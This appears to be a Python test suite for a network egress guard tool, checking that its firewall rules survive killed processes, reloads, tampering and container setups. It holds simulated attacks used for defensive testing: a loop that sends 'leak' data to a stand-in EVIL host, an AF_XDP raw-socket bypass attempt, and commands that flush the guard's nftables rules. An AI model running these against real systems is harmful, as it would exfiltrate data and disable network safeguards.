# SPDX-License-Identifier: Apache-2.0
"""`sallyport guard` up and down: whatever dies or is changed meanwhile, and where it
has to live."""
import contextlib
import os
import signal
import subprocess
import time

from guarded import (CONTAINER, GATE_UID, TRY, Guard, Rootless, alive,
                     attempt, boundary_of, contained, fetch, gone, nft,
                     own_place, refused, run, seen_at_evil, tables, user)
from harness import check
from lab import EVIL, GOOD, GOOD6, sh

ALLOW = ("--allow", "allowed.test")


def test_00_a_place_of_its_own(case):
    own_place()
    r = Guard(case).call("status")
    check(r.returncode == 1 and "no guard" in r.stdout, r)


# --- life and death ---------------------------------------------------------

def processes(guard):
    """The pids of the guard's process and of its children."""
    top = guard.status()["pid"]
    with open(f"/proc/{top}/task/{top}/children") as f:
        return [top, *map(int, f.read().split())]


def gate_of(guard):
    for pid in processes(guard)[1:]:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/status") as f:
            if f"Uid:\t{GATE_UID}\t" in f.read():
                return pid
    raise AssertionError("no gate")


WAYS = (("tcp", EVIL, 443), ("udp", EVIL, 443), ("tcp", GOOD, 80),
        ("tcp", GOOD6, 80))


class Flood:
    """Sends to EVIL without a pause, by UDP and TCP."""

    CODE = f"""
import socket
while True:
    for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
        s = socket.socket(socket.AF_INET, kind); s.setblocking(False)
        try: s.connect(("{EVIL}", 443)); s.send(b"leak")
        except OSError: pass
        s.close()
"""

    def __enter__(self):
        self.p = subprocess.Popen([*user(33), "python3", "-c", self.CODE])
        return self

    def __exit__(self, *_):
        self.p.kill()
        self.p.wait()


def test_killed(case):
    """Nothing leaves while the gate is away, nor while another one comes."""
    guard = Guard(case, *ALLOW)
    guard.up()
    try:
        with Flood():
            for _ in range(3):
                pids = processes(guard)
                check(len(pids) == 3, pids)
                for pid in pids:
                    os.kill(pid, signal.SIGKILL)
                check(all(gone(pid) for pid in pids))
                state = guard.status()
                check(state["rules"] and not state["serving"], state)
                for kind, host, port in WAYS:
                    refused(case, kind, host, port, uid=0)
                word, _ = attempt(case, "packet", EVIL, 5556, "up0", uid=0)
                check(word == "refused 105", word)
                r = fetch(case, "http://allowed.test/host", "-m", "3")
                check(r.returncode in (6, 28), r)
                r = run(case, "dig", "+tries=1", "+time=1", "@8.8.8.8",
                        "evil.test")
                check(r.returncode == 9, r)
                guard.up()
                r = fetch(case, "http://allowed.test/host")
                check(r.stdout == "allowed.test\n", r)
    finally:
        guard.down()
    check(not seen_at_evil(case))


def test_gate_killed(case):
    """It is replaced, as under `run`."""
    with Guard(case, *ALLOW) as guard, Flood():
        gate = gate_of(guard)
        os.kill(gate, signal.SIGKILL)
        case.lab.wait(lambda: fetch(case, "http://allowed.test/host").stdout ==
                      "allowed.test\n", "another gate")
        check(guard.status()["up"] and gate_of(guard) != gate)
        case.lab.wait(lambda: [r for r in guard.records()
                               if r["class_uid"] == 2004], "a finding")
    guard.verified()
    check(not seen_at_evil(case))


def test_terminated(case):
    """The end of its process is not the end of the rules."""
    guard = Guard(case, *ALLOW)
    guard.up()
    try:
        pid = guard.status()["pid"]
        os.kill(pid, signal.SIGTERM)
        check(gone(pid))
        guard.verified()
        state = guard.status()
        check(state["rules"] and not state["serving"], state)
        word, _ = attempt(case, "tcp", GOOD, 80)
        check(word == "refused 111", word)
    finally:
        guard.down()


def test_down(case):
    nft("add", "table", "inet", "theirs")
    try:
        nft("add chain inet theirs in { type filter hook input priority 0; }")
        rules = nft("list", "table", "inet", "theirs")
        guard = Guard(case, *ALLOW)
        guard.up()
        check(len(tables()) == 3, tables())
        r = subprocess.run([*user(33), case.binary, "guard", "down"],
                           capture_output=True, text=True)
        check(r.returncode == 125 and "root" in r.stderr, r)
        check(guard.status()["up"])
        pids = processes(guard)
        guard.down()
        check(all(gone(p) for p in pids))
        check(tables() == ["table inet theirs"], tables())
        check(nft("list", "table", "inet", "theirs") == rules)
        check(fetch(case, f"http://{GOOD}/host").stdout == GOOD + "\n")
        r = guard.down()
        check("no guard" in r.stderr, r)
    finally:
        nft("delete", "table", "inet", "theirs")


def test_up_twice(case):
    with Guard(case, *ALLOW) as guard:
        r = guard.up(check=False)
        check(r.returncode == 125 and "up already" in r.stderr, r)
        check(guard.status()["up"])
        check(fetch(case, "http://allowed.test/host").returncode == 0)


def test_what_up_refuses(case):
    """With nothing changed."""
    other = subprocess.Popen([*user(GATE_UID), "sleep", "600"])
    try:
        case.lab.wait(lambda: os.stat(f"/proc/{other.pid}").st_uid == GATE_UID,
                      "a process with the gate's uid")
        r = Guard(case, *ALLOW).up(check=False)
        check(r.returncode == 125 and str(other.pid) in r.stderr, r)
    finally:
        other.kill()
        other.wait()
    for args, word in (((*ALLOW, "--proxy", "0.0.0.0:3128"), "loopback"),
                       (("--policy", "/nowhere.yaml"), "nowhere"),
                       (("--allow", "a*b.test"), "a*b.test"),
                       (("--frobnicate",), "no such option"),
                       ((*ALLOW, "more"), "what is")):
        r = Guard(case, *args).up(check=False)
        check(r.returncode == 125 and word in r.stderr, r)
    r = subprocess.run([*user(33), case.binary, "guard", "up"], text=True,
                       capture_output=True, env=case.env())
    check(r.returncode == 125 and "root" in r.stderr, r)
    r = Guard(case, *ALLOW, wrap=lambda *a: [
        "setpriv", "--bounding-set", "-net_admin", "--inh-caps", "-net_admin",
        *a]).up(check=False)
    check(r.returncode == 125 and "CAP_NET_ADMIN" in r.stderr, r)
    check(not tables(), tables())
    check(fetch(case, f"http://{GOOD}/host").returncode == 0)


def test_reload(case):
    policy = case.lab.write("guard.yaml", "version: 1\nallow: [allowed.test]\n")
    with Guard(case, "--policy", policy) as guard:
        check(fetch(case, "http://other.test/host").returncode == 6)
        case.lab.write("guard.yaml", "version: 1\nallow: [other.test, "
                       f"{{address: {GOOD}, ports: [7000]}}]\n")
        gate = gate_of(guard)
        # While an engine in here is at its own rules.
        churn = subprocess.Popen(["sh", "-c", "while :; do nft add table ip "
                                  "engine; nft delete table ip engine; done"])
        try:
            r = subprocess.run([case.binary, "reload", guard.log], text=True,
                               capture_output=True, timeout=60)
            time.sleep(0.5)
        finally:
            churn.kill()
            churn.wait()
            subprocess.run(["nft", "delete", "table", "ip", "engine"],
                           stderr=subprocess.DEVNULL)
        check(r.returncode == 0 and gate_of(guard) == gate, r)
        r = fetch(case, "http://other.test/host")
        check(r.stdout == "other.test\n", r)
        check(fetch(case, "http://allowed.test/host").returncode != 0)
        word, _ = attempt(case, "tcp", GOOD, 7000)
        check(word == "got b'leak\\n'", word)
        check(guard.status()["up"])
    guard.verified()


# --- others -----------------------------------------------------------------

def test_changed_by_root(case):
    """Put back, and recorded."""
    with Guard(case, *ALLOW) as guard, Flood():
        for n, change in enumerate((
                ("flush", "chain", "inet", "sallyport_guard", "forward"),
                ("delete", "table", "netdev", "sallyport_guard")), 1):
            nft(*change)
            case.lab.wait(lambda: guard.status()["rules"] and sum(
                "were put back" in r["unmapped"].get("detail", "")
                for r in guard.records()) == n, "the rules")
            case.lab.wait(lambda: fetch(case, "http://allowed.test/host"
                                        ).stdout == "allowed.test\n", "a gate")
        findings = [r for r in guard.records()
                    if r["class_uid"] == 2004]
        check(len(findings) == 2, findings)
    guard.verified("restored")
    check(not seen_at_evil(case))


def test_changed_too_often(case):
    """Then it ends, and leaves rules that let nobody out."""
    guard = Guard(case, *ALLOW)
    guard.up()
    try:
        pid = guard.status()["pid"]
        end = time.monotonic() + 60
        while alive(pid) and time.monotonic() < end:
            subprocess.run(["nft", "flush", "chain", "inet", "sallyport_guard",
                            "post"], capture_output=True)
            time.sleep(0.3)
        check(gone(pid))
        state = guard.status()
        check(not state["serving"], state)
        for kind, host, port in WAYS:
            refused(case, kind, host, port)
    finally:
        guard.down()
    r = subprocess.run([case.binary, "verify", "--json", guard.log], text=True,
                       capture_output=True)
    check(boundary_of(r.stdout)["held"] == "broken", r)


def test_like_in_a_container(case):
    """Root has what an engine leaves it: no other namespace can be made."""
    with Guard(case, *ALLOW, wrap=contained) as guard:
        state = guard.status()
        check(state["up"] and state["separation"] == "uid-chroot", state)
        r = fetch(case, "https://allowed.test/host")
        check(r.stdout == "allowed.test\n", r)
        for pid in processes(guard)[1:]:
            check(os.readlink(f"/proc/{pid}/root") == "/run/sallyport/empty")
            with open(f"/proc/{pid}/status") as f:
                status = f.read()
            for line in "CapBnd", "CapEff", "CapPrm", "CapInh", "CapAmb":
                check(f"{line}:\t0000000000000000\n" in status, status)
            check("Seccomp:\t2\n" in status and "Uid:\t19000" in status)
        word, _ = attempt(case, "packet", EVIL, 5556, "up0", uid=0)
        check(word == "refused 105", word)
        word, _ = attempt(case, "udp", EVIL, 443, uid=0)
        check(word.startswith("refused"), word)
    boundary = guard.verified()
    check(boundary["separation"] == "uid-chroot", boundary)
    check("sys_admin" not in CONTAINER)
    check(not seen_at_evil(case))


def test_in_a_rootless_container(case):
    """The gate's usual uid is none there."""
    with Rootless() as box:
        def inside(*argv):
            return subprocess.run(box.enter(*argv), text=True, timeout=30,
                                  capture_output=True, stdin=subprocess.DEVNULL)
        get = ("curl", "-sS", "-m", "5")
        check(inside(*get, f"http://{GOOD}/host").stdout == GOOD + "\n")
        r = inside(case.binary, "guard", "up", *ALLOW)
        check(r.returncode == 0, r)
        r = inside("ps", "-eo", "uid,args")
        check("65533 sallyport gate" in r.stdout and
              "65532 sallyport ledger" in r.stdout, r)
        r = inside(case.binary, "guard", "status")
        check(r.returncode == 0, r)
        r = inside(*get, "http://allowed.test/host")
        check(r.stdout == "allowed.test\n", r)
        check(inside(*get, f"http://{GOOD}/host").returncode == 7)
        r = inside("python3", "-c", TRY, "packet", EVIL, "5556", "eth0")
        check(r.stdout.startswith("refused"), r)
        r = inside(case.binary, "guard", "down")
        check(r.returncode == 0, r)
        check(inside(*get, f"http://{GOOD}/host").stdout == GOOD + "\n")
    check(not seen_at_evil(case))


# Binds a socket to send by: is there a queue left? Like a program of C.
XDP = """
import ctypes, mmap, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
try:
    s = socket.socket(44, socket.SOCK_RAW)
    m = mmap.mmap(-1, 4096)
    at = ctypes.addressof(ctypes.c_char.from_buffer(m))
    s.setsockopt(283, 4, struct.pack("QQIIII", at, 4096, 4096, 0, 0, 0))
    for ring in 5, 6, 3: s.setsockopt(283, ring, 1)
    to = struct.pack("HHIII", 44, 2, socket.if_nametoindex(sys.argv[1]), 0, 0)
    if libc.bind(s.fileno(), to, len(to)): raise OSError(ctypes.get_errno(), "")
    print("bound")
except OSError as e:
    print("refused", e.errno)
"""


def test_capability_of_packets(case):
    """Who has it could send by AF_XDP: that is taken, and recorded."""
    for raw in True, False:
        with Rootless(raw) as box:
            def inside(*argv):
                return subprocess.run(box.enter(*argv), text=True, timeout=30,
                                      capture_output=True,
                                      stdin=subprocess.DEVNULL)
            r = inside(case.binary, "guard", "up", *ALLOW)
            check(r.returncode == 0 and "AF_XDP" not in r.stderr, r)
            r = inside("python3", "-c", XDP, "eth0")
            # EBUSY; EPERM for who has no right to such a socket.
            check(r.stdout == ("refused 16\n" if raw else "refused 1\n"), r)
            r = inside("sh", "-c", "head -n1 /run/.local/state/sallyport/2*/"
                       "audit.jsonl")
            check(("CAP_NET_RAW" in r.stdout) == raw and "guard;" in r.stdout,
                  r)
            r = inside("python3", "-c", TRY, "packet", EVIL, "5556", "eth0")
            check(r.stdout.startswith("refused " + ("105" if raw else "1\n")),
                  r)
            check(inside(case.binary, "guard", "down").returncode == 0)
            if raw:
                case.lab.wait(lambda: inside("python3", "-c", XDP, "eth0")
                              .stdout == "bound\n", "AF_XDP for all")
    check(not seen_at_evil(case))


def test_foreground_and_pipes(case):
    """In the background nothing of the caller's is held open; in the
    foreground it stays."""
    p = subprocess.Popen([case.binary, "guard", "up", "--foreground", *ALLOW],
                         stderr=subprocess.PIPE, text=True, env=case.env())
    try:
        for line in p.stderr:
            if "guard is up" in line:
                break
        check(fetch(case, "http://allowed.test/host").returncode == 0)
    finally:
        p.send_signal(signal.SIGTERM)
        p.wait(60)
        Guard(case).down()
    check(p.returncode == 0, p.returncode)
    r, w = os.pipe()
    with Guard(case, *ALLOW) as guard:
        os.set_inheritable(w, True)
        guard.down()
        subprocess.run([case.binary, "guard", "up", *ALLOW], check=True,
                       pass_fds=(w,), capture_output=True, env=case.env())
        os.close(w)
        # The last writer is gone, though the guard is up.
        check(os.read(r, 1) == b"")
        os.close(r)
        check(guard.status()["up"])
